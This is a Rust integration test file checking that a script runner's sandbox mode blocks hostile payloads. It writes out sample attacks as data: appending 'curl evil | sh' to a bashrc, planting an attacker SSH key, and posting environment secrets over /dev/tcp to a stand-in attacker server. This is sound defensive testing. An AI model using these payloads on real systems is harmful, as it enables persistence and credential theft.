//! `run --capsule` (issue 17): a verified payload may write only where it is allowed, reach
//! no network under `--no-network`, gain nothing from setuid binaries, and a capsule that
//! cannot be built is refused before anything runs. Real processes, real kernel features:
//! the "unavailable" cases are made real by a seccomp filter (tests/tools/deny.c, compiled
//! here) that refuses the system calls, as container runtimes' profiles do.

mod common;

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Output;

use common::*;

/// Whether this kernel can build a capsule at all (Landlock and user namespaces). Where it
/// cannot, the enforcement tests skip loudly, and fail in CI unless VERUN_CAPSULE_UNSUPPORTED
/// says the CI machine is known not to have them.
fn capsule_supported(test: &str) -> bool {
    let env = TestEnv::new();
    let (script, _) = marker_script(&env, "probe");
    let server = TestServer::http();
    server.route("/probe.sh", Reply::bytes(&script));
    let out = env.verun([
        "run",
        &server.url("/probe.sh"),
        "--allow-http",
        "--sha256",
        &sha256_hex(&script),
        "--capsule",
        "--no-network",
    ]);
    if out.status.code() == Some(0) {
        return true;
    }
    let msg = format!(
        "SKIPPED {test}: this kernel cannot build a capsule: {}",
        stderr(&out)
    );
    if std::env::var_os("CI").is_some() && std::env::var_os("VERUN_CAPSULE_UNSUPPORTED").is_none() {
        panic!("{msg}");
    }
    eprintln!("{msg}");
    false
}

/// The seccomp helper, compiled once per test binary into the target directory.
fn deny_tool() -> PathBuf {
    let dir = PathBuf::from(env!("CARGO_TARGET_TMPDIR"));
    let bin = dir.join("verun-test-deny");
    static ONCE: std::sync::Once = std::sync::Once::new();
    ONCE.call_once(|| {
        let src = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/tools/deny.c");
        let tmp = dir.join(format!("verun-test-deny.{}", std::process::id()));
        let out = std::process::Command::new(std::env::var("CC").unwrap_or_else(|_| "cc".into()))
            .args(["-O2", "-o"])
            .arg(&tmp)
            .arg(&src)
            .output()
            .expect("a C compiler (cc) is needed to build tests/tools/deny.c");
        assert!(
            out.status.success(),
            "cc failed: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        fs::rename(&tmp, &bin).unwrap();
    });
    bin
}

struct CapsuleSite {
    env: TestEnv,
    server: TestServer,
}

impl CapsuleSite {
    fn new() -> CapsuleSite {
        CapsuleSite {
            env: TestEnv::new(),
            server: TestServer::http(),
        }
    }

    /// Serves `body` as a script and returns the `run` arguments pinning it.
    fn script(&self, name: &str, body: &str) -> Vec<String> {
        let bytes = body.as_bytes();
        self.server.route(format!("/{name}"), Reply::bytes(bytes));
        vec![
            "run".into(),
            self.server.url(&format!("/{name}")),
            "--allow-http".into(),
            "--sha256".into(),
            sha256_hex(bytes),
            "-q".into(),
        ]
    }

    fn verun(&self, args: &[String]) -> Output {
        self.env.verun(args)
    }
}

fn with(base: &[String], extra: &[&str]) -> Vec<String> {
    let mut v = base.to_vec();
    v.extend(extra.iter().map(|s| s.to_string()));
    v
}

#[test]
fn a_capsuled_payload_writes_only_below_allow_write() {
    if !capsule_supported("a_capsuled_payload_writes_only_below_allow_write") {
        return;
    }
    let s = CapsuleSite::new();
    let allowed = s.env.path("allowed");
    fs::create_dir(&allowed).unwrap();
    let bashrc = s.env.write("home-bashrc", "# the user's own\n");
    let keys = s.env.path("authorized_keys");
    let report = allowed.join("report");
    let body = format!(
        "#!/bin/sh\n\
         echo installed > '{a}/tool' && echo ok-allowed >> '{r}'\n\
         echo 'curl evil | sh' >> '{b}' 2>/dev/null && echo WROTE-BASHRC >> '{r}'\n\
         echo 'ssh-ed25519 AAAA attacker' > '{k}' 2>/dev/null && echo WROTE-KEYS >> '{r}'\n\
         mkdir '{w}/newdir' 2>/dev/null && echo MADE-DIR >> '{r}'\n\
         echo scratch > \"$TMPDIR/scratch\" && echo ok-tmp >> '{r}'\n\
         echo discard > /dev/null && echo ok-devnull >> '{r}'\n\
         echo \"tmp=$TMPDIR\" >> '{r}'\n",
        a = allowed.display(),
        r = report.display(),
        b = bashrc.display(),
        k = keys.display(),
        w = s.env.work().display(),
    );
    let base = s.script("install.sh", &body);
    let out = s.verun(&with(
        &base,
        &["--capsule", "--allow-write", allowed.to_str().unwrap()],
    ));
    assert_exit(&out, 0);
    let rep = fs::read_to_string(&report).unwrap();
    assert!(rep.contains("ok-allowed"), "{rep}");
    assert!(
        rep.contains("ok-tmp") && rep.contains("ok-devnull"),
        "{rep}"
    );
    assert!(!rep.contains("WROTE") && !rep.contains("MADE"), "{rep}");
    assert_eq!(fs::read_to_string(&bashrc).unwrap(), "# the user's own\n");
    assert!(!keys.exists());
    assert_eq!(
        fs::read_to_string(allowed.join("tool")).unwrap(),
        "installed\n"
    );
    // Its private TMPDIR was its own, and is gone afterwards.
    let tmp = rep.lines().find_map(|l| l.strip_prefix("tmp=")).unwrap();
    assert!(tmp.contains("verun-capsule-"), "{tmp}");
    assert!(!Path::new(tmp).exists(), "the private TMPDIR is removed");

    // Control: without the capsule the same script does write outside (so the test can fail).
    fs::remove_file(&report).unwrap();
    assert_exit(&s.verun(&base), 0);
    assert!(
        fs::read_to_string(&report)
            .unwrap()
            .contains("WROTE-BASHRC")
    );
}

/// A payload that posts its environment to `port` on loopback with bash's /dev/tcp.
fn exfiltrating_script(port: u16) -> String {
    format!(
        "#!/bin/bash\n\
         body=$(env)\n\
         exec 3<>/dev/tcp/127.0.0.1/{port} || exit 42\n\
         printf 'POST /steal HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: %d\\r\\n\\r\\n%s' \"${{#body}}\" \"$body\" >&3\n\
         exit 0\n"
    )
}

#[test]
fn under_no_network_a_payload_posting_env_reaches_nothing() {
    if !capsule_supported("under_no_network_a_payload_posting_env_reaches_nothing") {
        return;
    }
    let s = CapsuleSite::new();
    let attacker = TestServer::http();
    attacker.route("/steal", Reply::bytes("thanks"));
    let base = s.script("uploader.sh", &exfiltrating_script(attacker.port()));
    let mut cmd = s.env.verun_cmd(with(&base, &["--capsule", "--no-network"]));
    cmd.env("CODECOV_TOKEN", "s3cr3t-token");
    let out = run_with_timeout(&mut cmd, DEFAULT_TIMEOUT);
    assert_exit(&out, 42);
    assert_eq!(
        attacker.accepted_connections(),
        0,
        "the attacker saw a connection"
    );
    // Control: without the capsule the secret arrives (so the test can fail).
    let mut cmd = s.env.verun_cmd(&base);
    cmd.env("CODECOV_TOKEN", "s3cr3t-token");
    assert_exit(&run_with_timeout(&mut cmd, DEFAULT_TIMEOUT), 0);
    std::thread::sleep(std::time::Duration::from_millis(200));
    assert!(attacker.accepted_connections() >= 1);
}

#[test]
fn allow_connect_lets_tcp_reach_only_the_given_ports() {
    if !capsule_supported("allow_connect_lets_tcp_reach_only_the_given_ports") {
        return;
    }
    let s = CapsuleSite::new();
    let attacker = TestServer::http();
    let allowed = TestServer::http();
    for srv in [&attacker, &allowed] {
        srv.route("/steal", Reply::bytes("thanks"));
    }
    let port = allowed.port().to_string();
    let to_attacker = s.script("a.sh", &exfiltrating_script(attacker.port()));
    let out = s.verun(&with(
        &to_attacker,
        &["--capsule", "--allow-connect", &port],
    ));
    assert_exit(&out, 42);
    assert_eq!(attacker.accepted_connections(), 0);
    let to_allowed = s.script("b.sh", &exfiltrating_script(allowed.port()));
    let out = s.verun(&with(&to_allowed, &["--capsule", "--allow-connect", &port]));
    assert_exit(&out, 0);
    std::thread::sleep(std::time::Duration::from_millis(200));
    assert!(allowed.accepted_connections() >= 1);
}

#[test]
fn a_capsuled_payload_gains_nothing_from_a_setuid_binary() {
    if !capsule_supported("a_capsuled_payload_gains_nothing_from_a_setuid_binary") {
        return;
    }
    if !rustix_is_root() {
        eprintln!(
            "SKIPPED a_capsuled_payload_gains_nothing_from_a_setuid_binary: needs root to make a setuid binary and switch to nobody"
        );
        return;
    }
    let s = CapsuleSite::new();
    // A world-accessible directory: the test runs verun as nobody (65534).
    let dir = tempfile::Builder::new()
        .prefix("verun-suid-")
        .tempdir_in("/tmp")
        .unwrap();
    fs::set_permissions(dir.path(), fs::Permissions::from_mode(0o777)).unwrap();
    let suid = dir.path().join("suid-id");
    fs::copy("/usr/bin/id", &suid).unwrap();
    fs::set_permissions(&suid, fs::Permissions::from_mode(0o4755)).unwrap();
    let out_file = dir.path().join("euid");
    let home = dir.path().join("home");
    fs::create_dir(&home).unwrap();
    std::os::unix::fs::chown(&home, Some(65534), Some(65534)).unwrap();
    let body = format!(
        "#!/bin/sh\n'{}' -u > '{}'\n",
        suid.display(),
        out_file.display()
    );
    let base = s.script("suid.sh", &body);
    let run_as_nobody = |args: Vec<String>| {
        let _ = fs::remove_file(&out_file);
        let mut cmd = s.env.verun_cmd(&args);
        use std::os::unix::process::CommandExt;
        cmd.uid(65534)
            .gid(65534)
            .env("VERUN_HOME", &home)
            .env("HOME", &home)
            .env("TMPDIR", dir.path())
            .current_dir(dir.path());
        let out = run_with_timeout(&mut cmd, DEFAULT_TIMEOUT);
        assert_exit(&out, 0);
        fs::read_to_string(&out_file).unwrap().trim().to_string()
    };
    // Control: the setuid bit works here without a capsule (else the test proves nothing).
    assert_eq!(run_as_nobody(base.clone()), "0");
    let dir_arg = dir.path().to_str().unwrap();
    assert_eq!(
        run_as_nobody(with(&base, &["--capsule", "--allow-write", dir_arg])),
        "65534"
    );
}

fn rustix_is_root() -> bool {
    // Our effective uid, from /proc (the test crate has no libc binding for it).
    fs::read_to_string("/proc/self/status")
        .ok()
        .and_then(|s| {
            s.lines()
                .find(|l| l.starts_with("Uid:"))
                .map(|l| l.split_whitespace().nth(2) == Some("0"))
        })
        .unwrap_or(false)
}

#[test]
fn a_capsule_that_cannot_be_built_is_refused_before_anything_is_downloaded() {
    let deny = deny_tool();
    let s = CapsuleSite::new();
    let (script, marker) = marker_script(&s.env, "closed");
    s.server.route("/closed.sh", Reply::bytes(&script));
    let base = vec![
        "run".to_string(),
        s.server.url("/closed.sh"),
        "--allow-http".into(),
        "--sha256".into(),
        sha256_hex(&script),
    ];
    let denied = |what: &str, extra: &[&str]| {
        let mut cmd = s.env.command(&deny);
        cmd.arg(what)
            .arg("--")
            .arg(verun_bin())
            .args(with(&base, extra));
        run_with_timeout(&mut cmd, DEFAULT_TIMEOUT)
    };
    for (what, extra, needle) in [
        ("--landlock", vec!["--capsule"], "Landlock"),
        ("--unshare", vec!["--capsule", "--no-network"], "namespace"),
    ] {
        let out = denied(what, &extra);
        assert_exit(&out, 77);
        let err = stderr(&out);
        assert!(err.contains(needle), "{what}: {err}");
        assert!(err.contains("hint:"), "{err}");
        assert_not_ran(&marker);
        assert_eq!(s.server.hits("/closed.sh"), 0, "nothing may be downloaded");
    }
    // Best effort runs, and says exactly what it skipped (the marker's directory must be
    // writable where Landlock still holds).
    let markers = marker.parent().unwrap().to_str().unwrap().to_string();
    for (what, extra, needle) in [
        ("--landlock", vec!["--capsule=best-effort"], "Landlock"),
        (
            "--unshare",
            vec!["--capsule=best-effort", "--no-network"],
            "--no-network",
        ),
    ] {
        let mut extra = extra;
        extra.extend(["--allow-write", markers.as_str()]);
        let out = denied(what, &extra);
        assert_exit(&out, 0);
        let err = stderr(&out);
        assert!(
            err.contains("skipped") && err.contains(needle),
            "{what}: {err}"
        );
        assert_ran(&marker);
        fs::remove_file(&marker).unwrap();
    }
}

#[test]
fn capsule_options_are_checked_before_anything_is_downloaded() {
    let s = CapsuleSite::new();
    let base = s.script("opts.sh", "#!/bin/sh\nexit 0\n");
    for (extra, code) in [
        (vec!["--capsule=paranoid"], 64),
        (vec!["--capsule", "--allow-write", "/no/such/dir"], 64),
        (vec!["--allow-write", "/tmp"], 64),
        (vec!["--no-network"], 64),
        (
            vec!["--capsule", "--no-network", "--allow-connect", "443"],
            64,
        ),
    ] {
        let out = s.verun(&with(&base, &extra));
        assert_exit(&out, code);
    }
    assert_eq!(s.server.hits("/opts.sh"), 0);
}

#[test]
fn a_capsule_implies_a_clean_environment() {
    if !capsule_supported("a_capsule_implies_a_clean_environment") {
        return;
    }
    let s = CapsuleSite::new();
    let out_dir = s.env.path("out");
    fs::create_dir(&out_dir).unwrap();
    let body = format!("#!/bin/sh\nenv > '{}/env'\n", out_dir.display());
    let base = s.script("env.sh", &body);
    let mut cmd = s.env.verun_cmd(with(
        &base,
        &[
            "--capsule",
            "--allow-write",
            out_dir.to_str().unwrap(),
            "--env",
            "PASSED=yes",
        ],
    ));
    cmd.env("AWS_SECRET_ACCESS_KEY", "hunter2");
    assert_exit(&run_with_timeout(&mut cmd, DEFAULT_TIMEOUT), 0);
    let env = fs::read_to_string(out_dir.join("env")).unwrap();
    assert!(!env.contains("hunter2"), "{env}");
    assert!(env.contains("PASSED=yes"), "{env}");
}
